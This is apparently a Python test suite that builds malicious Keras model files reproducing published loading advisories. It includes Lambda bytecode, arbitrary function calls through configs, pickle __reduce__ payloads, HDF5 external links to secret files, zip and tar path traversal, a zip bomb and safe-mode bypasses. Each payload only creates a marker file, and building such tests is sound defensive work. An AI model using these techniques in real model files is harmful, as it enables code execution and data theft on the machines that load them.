"""The published advisories on loading Keras models, a case or more each; the payload would make a file named MARKER.

They are written so that the releases in which each was open do run them (`keras.saving.load_model`).
"""

from __future__ import annotations

import base64
import io
import json
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import numpy as np

from tests.hostile.build import (
    SOUND,
    Case,
    archive,
    called,
    dense,
    function,
    functional,
    layer,
    sequential,
    sound,
    tensor,
)
from tests.hostile.models import bytecode

ENABLE = function("keras.config", "enable_unsafe_deserialization")
TOUCH = 0o644


def _model(config: Any, *more: str, files: Any = None) -> Case:
    """`check` of a model; the payload's paths are made absolute, so that it may run in any folder."""

    def make(folder: Path) -> list[str]:
        sound(folder)
        made = config(folder) if callable(config) else config
        (folder / "m.keras").write_bytes(made if isinstance(made, bytes) else archive(made))
        for name, data in (files(folder) if files else {}).items():
            (folder / name).parent.mkdir(exist_ok=True)
            (folder / name).write_bytes(data)
        return ["check", "m.keras", "b.npz", *more]

    return Case(make)


def _lambda(folder: Path, name: str = "l") -> dict[str, Any]:
    code = bytecode(str(folder / "MARKER"))
    return {**layer("Lambda"), "config": {"name": name, "function": code, "output_shape": [4]}}


def _called(made: dict[str, Any], *args: Any, **kwargs: Any) -> dict[str, Any]:
    """A thing that is no layer, called by the graph before the layers that follow."""
    return called(made, *args, name="payload", **kwargs)


def _then(*first: dict[str, Any]) -> dict[str, Any]:
    return functional(*first, called(dense(), tensor("i")))


def _get_file(folder: Path, **more: Any) -> dict[str, Any]:
    (folder / "source").write_text("x")
    return {
        "fname": "MARKER",
        "origin": (folder / "source").as_uri(),
        "cache_dir": str(folder),
        "cache_subdir": "",
        **more,
    }


def _get_file_by_lambda(folder: Path) -> dict[str, Any]:
    given = _get_file(folder)
    made = {
        **layer("Lambda"),
        "config": {"name": "l", "function": function("keras.utils", "get_file"), "arguments": given},
    }
    made["config"]["arguments"] = {k: v for k, v in given.items() if k != "fname"}
    return _then(called(made, name="l", inputs=str(folder / "MARKER")))


def _load_second(folder: Path) -> dict[str, Any]:
    """A model whose Lambda loads a second file, without Keras's safe mode."""
    (folder / "second.keras").write_bytes(archive(sequential(_lambda(folder), dense()), **{"model.weights.h5": b""}))
    made = {
        **layer("Lambda"),
        "config": {"name": "l", "function": function("keras.models", "load_model"), "arguments": {"safe_mode": False}},
    }
    return _then(called(made, name="l", inputs=str(folder / "second.keras")))


def _h5(folder: Path) -> bytes:
    """A file of the old format with a Lambda, whose code Keras ran whatever `safe_mode` said."""
    import h5py

    config = sequential(_lambda(folder), dense())
    text = json.dumps({"class_name": "Sequential", "config": config["config"]})
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.attrs["model_config"], file.attrs["keras_version"], file.attrs["backend"] = text, "3.4.1", "jax"
        file.create_group("model_weights").attrs["layer_names"] = []
    return stream.getvalue()


def _old_format(folder: Path) -> list[str]:
    sound(folder)
    (folder / "m.h5").write_bytes(_h5(folder))
    return ["check", "m.h5", "b.npz"]


def _weights_file(fill: Any, folder: Path) -> bytes:
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        fill(file.create_group("layers/dense/vars"), folder)
    return stream.getvalue()


def _weights(fill: Any) -> Any:
    def make(folder: Path) -> bytes:
        (folder / "secret").write_bytes(b"\1" * 64)
        return archive(SOUND, **{"model.weights.h5": _weights_file(fill, folder)})

    return make


def _plain(group: Any, folder: Path) -> None:
    """What Keras itself would have written."""
    group["0"], group["1"] = np.ones((4, 1), "f4"), np.ones((1,), "f4")


def _external(group: Any, folder: Path) -> None:
    group.create_dataset("0", (4, 1), "f4", external=[(str(folder / "secret"), 0, 16)])


def _linked(group: Any, folder: Path) -> None:
    import h5py

    group["0"] = h5py.ExternalLink(str(folder / "secret"), "/")


def _virtual(group: Any, folder: Path) -> None:
    import h5py

    layout = h5py.VirtualLayout((4, 1), "f4")
    layout[:] = h5py.VirtualSource(str(folder / "secret"), "a", (4, 1))
    group.create_virtual_dataset("0", layout)


def _linked_group(group: Any, folder: Path) -> None:
    """The weights' group itself in another file, whose own is sound."""
    import h5py

    (folder / "secret.h5").write_bytes(_weights_file(_plain, folder))
    layers = group.parent.parent
    del layers["dense"]
    layers["dense"] = h5py.ExternalLink(str(folder / "secret.h5"), "/layers/dense")


def _climbing(folder: Path) -> bytes:
    """Members that an unpacking into `assets` would put outside of it."""
    link = zipfile.ZipInfo("assets/link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    outside = {"assets/../../MARKER": "x", str(folder / "MARKER"): "x"}
    stream = io.BytesIO(archive(**{"model.weights.h5": _weights_file(_plain, folder)}, **outside))
    with zipfile.ZipFile(stream, "a") as file:
        file.writestr(link, str(folder))
        file.writestr("assets/link/MARKER", "x")
    return stream.getvalue()


def _asset_bomb(folder: Path) -> bytes:
    stream = io.BytesIO(archive(**{"model.weights.h5": _weights_file(_plain, folder)}))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as file:
        for number in range(5):
            file.writestr(f"assets/{number}", bytes(64 << 20))
    return stream.getvalue()


def _unpacked(folder: Path) -> dict[str, Any]:
    """A tar file beside the model with a member outside, by its path and by a hard link."""
    with tarfile.open(folder / "a.tar", "w") as file:
        link = tarfile.TarInfo("inner")
        link.type, link.linkname = tarfile.LNKTYPE, "../MARKER"
        for member in (tarfile.TarInfo("../MARKER"), link):
            file.addfile(member, io.BytesIO(b""))
    (folder / "to").mkdir()
    extract = function("keras.src.utils.file_utils", "extract_archive")
    return _then(_called(extract, str(folder / "a.tar"), str(folder / "to")))


def _layer_config(folder: Path) -> dict[str, Any]:
    """The config of a Lambda with stored code, made by a function outside of Keras's safe mode."""
    return _then(_called(function("keras.layers", "deserialize"), config={"value": _lambda(folder)}))


def _promised(group: Any, folder: Path) -> None:
    group.create_dataset("0", (10**6, 10**6), "f4", chunks=(1000, 1000))


class Pickled:
    """Unpickled, it would make the file."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> Any:
        return (open, (str(self.folder / "MARKER"), "w"))


def _pickles(folder: Path) -> bytes:
    stream = io.BytesIO()
    np.savez(stream, x_train=np.array([Pickled(folder)], dtype=object))
    return stream.getvalue()


def _torch(folder: Path) -> dict[str, Any]:
    import pickle

    data = base64.b64encode(pickle.dumps(Pickled(folder))).decode()
    return sequential({**layer("TorchModuleWrapper"), "config": {"name": "t", "module": data}}, dense())


CASES: dict[str, Case] = {
    "CVE-2024-3660, a Lambda's code": _model(lambda f: sequential(_lambda(f), dense())),
    "CVE-2024-3660, a Lambda inside a model": _model(
        lambda f: sequential({**sequential(_lambda(f)), "compile_config": None}, dense())
    ),
    "CVE-2025-1550, any function of any module": _model(
        lambda f: _then(_called(function("os", "mknod"), str(f / "MARKER"), TOUCH))
    ),
    "CVE-2025-1550, a class of any module": _model(
        lambda f: _then(
            _called(
                {"module": "os", "class_name": "mknod", "config": {}, "registered_name": "mknod"}, str(f / "MARKER")
            )
        )
    ),
    "CVE-2025-1550, what a module of Keras imports": _model(
        lambda f: _then(_called(function("pathlib", "Path"), str(f / "MARKER")))
    ),
    "CVE-2025-8747, a download by get_file": _model(
        lambda f: _then(_called(function("keras.utils", "get_file"), **_get_file(f)))
    ),
    "CVE-2025-8747, get_file in a Lambda": _model(_get_file_by_lambda),
    "CVE-2025-8747, get_file's own module": _model(
        lambda f: _then(_called(function("keras.src.utils.file_utils", "get_file"), **_get_file(f)))
    ),
    "CVE-2025-8747, a second name": _model(
        lambda f: _then(_called(function("keras.utils", "gone", registered="get_file"), **_get_file(f)))
    ),
    "CVE-2025-12060, an archive that get_file unpacks": _model(
        lambda f: _then(_called(function("keras.utils", "get_file"), **_get_file(f, extract=True)))
    ),
    "CVE-2025-9906, safe mode switched off": _model(
        lambda f: _then(_called(ENABLE), called(_lambda(f), tensor("i"), name="l"))
    ),
    "CVE-2025-9906, a second model loaded": _model(_load_second),
    "CVE-2025-9906, the global state": _model(
        lambda f: _then(
            _called(
                function("keras.src.backend.common.global_state", "set_global_attribute"),
                "safe_mode_saving",
                value=False,
            ),
            called(_lambda(f), tensor("i"), name="l"),
        )
    ),
    "CVE-2025-9905, the old file format": Case(_old_format),
    "CVE-2025-9905, the old file format by another name": _model(_h5),
    "CVE-2025-12058, a vocabulary of a local file": _model(
        lambda f: sequential(
            {**layer("StringLookup"), "config": {"name": "v", "vocabulary": str(f / "secret")}}, dense()
        ),
        files=lambda f: {"secret": b"a\nb\n"},
    ),
    "CVE-2025-12058, a vocabulary of the network": _model(
        lambda f: sequential(
            {**layer("StringLookup"), "config": {"name": "v", "vocabulary": "http://localhost:1/v"}}, dense()
        )
    ),
    "CVE-2025-49655, a pickled Torch module": _model(_torch),
    "CVE-2026-1462, a SavedModel": _model(
        lambda f: sequential({**layer("TFSMLayer"), "config": {"name": "t", "filepath": str(f / "saved")}}, dense()),
        files=lambda f: {"saved/saved_model.pb": b"\x08\x01"},
    ),
    "CVE-2026-1669, weights in another file": _model(_weights(_external), "--forward"),
    "CVE-2026-1669, weights by a link": _model(_weights(_linked), "--forward"),
    "CVE-2026-1669, weights by a virtual array": _model(_weights(_virtual), "--forward"),
    "CVE-2026-1669, weights in a group of another file": _model(_weights(_linked_group), "--forward"),
    "CVE-2026-0897, weights of a size that is not there": _model(_weights(_promised), "--forward"),
    "CVE-2026-12481, a Lambda made by a function": _model(_layer_config),
    "CVE-2026-12481, a Lambda inside a wrapper": _model(
        lambda f: sequential({**layer("TimeDistributed"), "config": {"name": "t", "layer": _lambda(f)}}, dense())
    ),
    "GHSA-hqp4-2352-xf5r, an archive unpacked": _model(_unpacked),
    "GHSA-hqp4-2352-xf5r, assets by climbing paths and links": Case(_model(_climbing).make, codes=(0, 1)),
    "GHSA-hqp4-2352-xf5r, such assets and the weights": _model(_climbing, "--forward"),
    "Keras 3.15.1, assets bombed": Case(_model(_asset_bomb).make, codes=(0, 1)),
    "Keras 3.15.1, assets bombed and the weights": _model(_asset_bomb, "--forward"),
    "Keras 3.15.1, a dataset of pickles": _model(
        lambda f: _then(_called(function("keras.datasets.imdb", "load_data"), path=str(f / "pickles.npz"))),
        files=lambda f: {"pickles.npz": _pickles(f)},
    ),
    "keras-team/keras#23654, a SavedModel by a layer's constructor": _model(
        lambda f: _then(_called(function("keras.layers", "TFSMLayer"), str(f / "saved"))),
        files=lambda f: {"saved/saved_model.pb": b"\x08\x01"},
    ),
    "keras-team/keras#23654, a SavedModel by a Lambda": _model(
        lambda f: _then(
            called(
                {**layer("Lambda"), "config": {"name": "l", "function": function("keras.layers", "TFSMLayer")}},
                name="l",
                inputs=str(f / "saved"),
            )
        ),
        files=lambda f: {"saved/saved_model.pb": b"\x08\x01"},
    ),
}
